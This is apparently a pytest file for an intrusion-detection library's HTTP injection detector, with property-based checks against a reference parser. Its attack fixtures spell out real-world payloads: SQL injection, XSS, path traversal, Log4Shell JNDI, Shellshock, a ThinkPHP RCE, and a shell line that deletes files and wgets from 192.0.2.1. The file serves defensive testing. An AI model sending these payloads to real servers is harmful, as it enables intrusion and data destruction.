"""Injections: real requests of attacks and of honest clients, and any request as the reference."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.payload.naive_payload import injected
from tests.payload.parsers import noted

from idskit.payload.injections import ANYWHERE, IN_TARGETS


def injections(target: bytes, rest: bytes = b" HTTP/1.1\r\nUser-Agent: x\r\n\r\n") -> float:
    return noted([(b"POST " + target + rest, True, 1)], 6, 50_000, 80)["http_injections"]


@pytest.mark.parametrize(
    "target",
    [
        b"/item.php?id=-1+UNION/**/ALL%0aSELECT+1,2,3--",
        b"/dvwa/?id=%27%20or%20%271%27=%271&Submit=Submit",
        b"/a?q=1)%20AND%20SLEEP(5)--",
        b"/a?q=5+and+substring(@@version,1,1)=5",
        b"/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        b"/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
        b"/..%255c..%255cwindows/win.ini",
        b"/.env",
        b"/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/m",
        b"/?x=${${lower:j}ndi:ldap://192.0.2.1/a}",
        b"/index.php?s=index/think/app/invokefunction&function=call_user_func_array&vars[0]=md5",
    ],
)
def test_attacks_are_injections(target: bytes) -> None:
    assert injections(target) == 1


@pytest.mark.parametrize(
    "target",
    [
        b"/",
        b"/select?union=trade&order=by&from=shop",
        b"/recaptcha/api.js?onload=ready&render=explicit",
        b"/search?q=rock+and+roll+or+jazz",
        b"/a/../b",
        b"/docs/environment/.envrc.html"[:17],
        b"/repo/.git/info/refs?service=git-upload-pack",
        b"/%e2%82%ac?price=10%25+off",
        b"/wget/httpd.tar.gz",
    ],
)
def test_honest_targets_are_none(target: bytes) -> None:
    assert injections(target) == 0


def test_a_header_line_or_a_body_is_read_up_to_its_limit() -> None:
    line = b" HTTP/1.1\r\nUser-Agent: () { :;}; /bin/bash -c id\r\n\r\n"
    assert injections(b"/", line) == 1
    form = b" HTTP/1.1\r\nUser-Agent: x\r\n\r\ndest=`busybox+wget`"
    assert injections(b"/GponForm/diag_Form", form) == 1
    late = b" HTTP/1.1\r\nUser-Agent: x\r\n\r\n" + b"x" * 1024 + b"/etc/passwd"
    assert injections(b"/", late) == 0


PIECES = st.sampled_from(
    [
        *(form.encode() for form in (*ANYWHERE, *IN_TARGETS)),
        *(b"%", b"%2", b"%25", b"%27", b"%20", b"+", b"/*", b"*/", b"%2f%2a", b"union", b"select"),
        *(b"'", b"or", b"..", b"/", b"a", b"\xa0", b"%00", b"A", b"<", b"${"),
    ]
)


@given(st.lists(PIECES, max_size=8), st.lists(PIECES, max_size=8))
def test_any_request_is_read_as_the_reference_reads_it(
    target: list[bytes], rest: list[bytes]
) -> None:
    path = b"/" + b"".join(target).replace(b" ", b"")
    behind = b" HTTP/1.1\r\nA: " + b"".join(rest)
    expected = injected(path, ANYWHERE + IN_TARGETS) or injected(behind[:1024], ANYWHERE)
    assert injections(path, behind) == expected
